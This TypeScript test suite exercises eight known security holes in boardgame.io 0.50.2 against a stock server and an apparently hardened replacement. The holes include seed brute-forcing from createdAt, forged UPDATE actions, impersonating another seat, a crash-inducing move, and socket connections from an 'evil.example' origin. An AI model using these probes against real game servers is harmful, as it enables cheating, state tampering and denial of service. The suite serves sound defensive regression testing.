/**
 * The attack suite: every hole of boardgame.io 0.50.2 (reference §4.3) tried against a REAL server
 * process over socket.io and HTTP — the stock server (the control: each hole must be OPEN) and ours
 * (each hole must be CLOSED), both spawned the same way on loopback with the same fixture games.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InitializeGame } from 'boardgame.io/internal';
import { expect } from 'chai';
import { SecretBid } from './fixtures/games.js';
import { http } from './helpers/lobby.js';
import { readState, settle } from './helpers/probe.js';
import { type ServerKind, type ServerProcess, spawnServer } from './helpers/process.js';
import { Seat, twoSeats } from './helpers/seat.js';

const KINDS: ServerKind[] = ['stock', 'skald'];
const EVIL = 'http://evil.example';

/** What each hole probe reports: whether the attack worked, and evidence for the failure message. */
interface Probe {
  open: boolean;
  evidence: string;
}

const probes: Record<string, (server: ServerProcess) => Promise<Probe>> = {
  async 'hole 1: the initial-state sync leaks the initial G secrets and the PRNG seed'(server) {
    const { p1, close } = await twoSeats(server.url, 'secret-bid');
    close();
    const initial = p1.syncs[0]!.initialState as any;
    const opponentHand = initial?.G?.players?.['0']?.hand;
    const random = initial?.plugins?.random?.data;
    return {
      open: Array.isArray(opponentHand) || initial?.G?.secret !== undefined || random !== undefined,
      evidence: `opponent hand ${JSON.stringify(opponentHand)}, random ${JSON.stringify(random)}`,
    };
  },

  async 'hole 2: the PRNG seed is guessable from the public createdAt'(server) {
    const { matchID, p1, close } = await twoSeats(server.url, 'secret-bid');
    close();
    const myHand = (p1.syncs[0]!.state.G as any).players['1'].hand as number[];
    const { body } = await http(`${server.url}/games/secret-bid/${matchID}`);
    const createdAt = body.createdAt as number;
    // Replay setup for every seed boardgame.io could have drawn around createdAt (± 250 ms).
    for (let t = createdAt - 250; t <= createdAt + 250; t++) {
      const seed = t.toString(36).slice(-10);
      const state = InitializeGame({ game: { ...SecretBid, seed }, numPlayers: 2 }) as any;
      if (JSON.stringify(state.G.players['1'].hand) === JSON.stringify(myHand)) {
        return { open: true, evidence: `seed ${seed} (createdAt ${createdAt}) reveals the opponent's hand` };
      }
    }
    return { open: false, evidence: `no seed within ±250 ms of createdAt ${createdAt} reproduces the deal` };
  },

  async 'hole 3: a client action rewrites the whole state (UPDATE)'(server) {
    const { matchID, credentials, p0, p1, close } = await twoSeats(server.url, 'race');
    const forged = { ...p0.latest!, G: { total: 999, target: 21, trapped: false } };
    p0.sendAction({ type: 'UPDATE', state: forged, payload: { playerID: '0', credentials: credentials[0] } });
    await settle(p0, p1);
    close();
    const state = await readState(server.url, 'race', matchID);
    return {
      open: (state.G as any).total === 999,
      evidence: `G after the attack: ${JSON.stringify(state.G)}`,
    };
  },

  async 'hole 4: an event the game disabled (endGame) is accepted'(server) {
    const { matchID, p0, p1, close } = await twoSeats(server.url, 'secret-bid');
    p0.event('endGame', [{ winner: '0' }]);
    await settle(p0, p1);
    close();
    const state = await readState(server.url, 'secret-bid', matchID);
    return {
      open: state.ctx.gameover !== undefined,
      evidence: `gameover ${JSON.stringify(state.ctx.gameover)}`,
    };
  },

  async 'hole 5: a player moves for another seat in a simultaneous stage'(server) {
    const { matchID, credentials, p0, p1, close } = await twoSeats(server.url, 'secret-bid');
    // Player 0's own credentials and socket seat, but the action names seat 1: bid 0 coins for them.
    p0.sendAction(
      { type: 'MAKE_MOVE', payload: { type: 'bid', args: [0], playerID: '1', credentials: credentials[0] } },
      p0.latest!._stateID,
      '0',
    );
    await settle(p0, p1);
    close();
    const G = (await readState(server.url, 'secret-bid', matchID)).G as any;
    return { open: G.players['1'].hasBid === true, evidence: `seat 1 hasBid=${G.players['1'].hasBid}` };
  },

  async 'hole 6: a move that throws takes the server down'(server) {
    const { matchID, p0, p1, close } = await twoSeats(server.url, 'race');
    p0.move('explode');
    // Either the process dies, or it logs the caught exception and goes on.
    const caught = () => server.events().some((e) => e.event === 'move_threw');
    const exited = await Promise.race([
      server.exited.then(() => true),
      p0.waitFor(() => caught() || undefined, 'move_threw', 5000).then(() => false),
    ]);
    if (exited) {
      close();
      return { open: true, evidence: `process exited: ${server.lines.slice(-3).join(' | ')}` };
    }
    // Still up: the move must have been rejected, and the match must go on.
    p0.move('add', [2]);
    const after = await p1.waitForStateID(1);
    close();
    const health = await http(`${server.url}/healthz`);
    return {
      open: false,
      evidence: `alive, healthz ${health.status}, next move applied (total ${(after.G as any).total}), match ${matchID}`,
    };
  },

  async 'hole 7: sockets ignore the configured origins'(server) {
    const evidence: string[] = [];
    let open = false;
    try {
      const s = await Seat.connect(server.url, 'race', 'x', null, undefined, { origin: EVIL });
      s.close();
      open = true;
      evidence.push('websocket from evil origin connected');
    } catch (error) {
      evidence.push(`websocket refused (${(error as Error).message})`);
    }
    const poll = await http(`${server.url}/socket.io/?EIO=4&transport=polling`, {
      headers: { Origin: EVIL },
    });
    const acao = poll.headers['access-control-allow-origin'];
    if (poll.status === 200 && (acao === '*' || acao === EVIL)) open = true;
    evidence.push(`polling handshake ${poll.status}, Access-Control-Allow-Origin ${acao}`);
    return { open, evidence: evidence.join('; ') };
  },

  async 'hole 8: a sync for an unknown match ID creates the match'(server) {
    const matchID = `ghost-${randomUUID()}`;
    const seat = await Seat.connect(server.url, 'race', matchID, '0');
    const synced = await seat.sync(2, 2000).then(
      () => true,
      () => false,
    );
    seat.close();
    const metadata = await http(`${server.url}/games/race/${matchID}`);
    return {
      open: metadata.status === 200,
      evidence: `sync answered: ${synced}; GET /games/race/${matchID} → ${metadata.status}`,
    };
  },
};

describe('attack suite: stock boardgame.io 0.50.2 (control) vs @skald/server, real processes', function () {
  this.timeout(60_000);
  const servers = {} as Record<ServerKind, ServerProcess>;
  const dataDirs: string[] = [];

  const spawn = (kind: ServerKind) => {
    const dir = mkdtempSync(join(tmpdir(), 'skald-attack-'));
    dataDirs.push(dir);
    return spawnServer(kind, { DATA_DIR: dir });
  };

  before(async () => {
    const [stock, skald] = await Promise.all(KINDS.map(spawn));
    servers.stock = stock!;
    servers.skald = skald!;
  });

  after(async () => {
    await Promise.all(Object.values(servers).map((s) => s.stop()));
    for (const dir of dataDirs) rmSync(dir, { recursive: true, force: true });
  });

  for (const [name, probe] of Object.entries(probes)) {
    describe(name, () => {
      for (const kind of KINDS) {
        const expectOpen = kind === 'stock';
        it(`is ${expectOpen ? 'OPEN on the stock server' : 'CLOSED on @skald/server'}`, async () => {
          // Hole 6 kills the stock process: give it a process of its own.
          const own = name.startsWith('hole 6') ? await spawn(kind) : null;
          try {
            const result = await probe(own ?? servers[kind]);
            expect(result.open, result.evidence).to.equal(expectOpen);
          } finally {
            await own?.stop();
          }
        });
      }
    });
  }
});
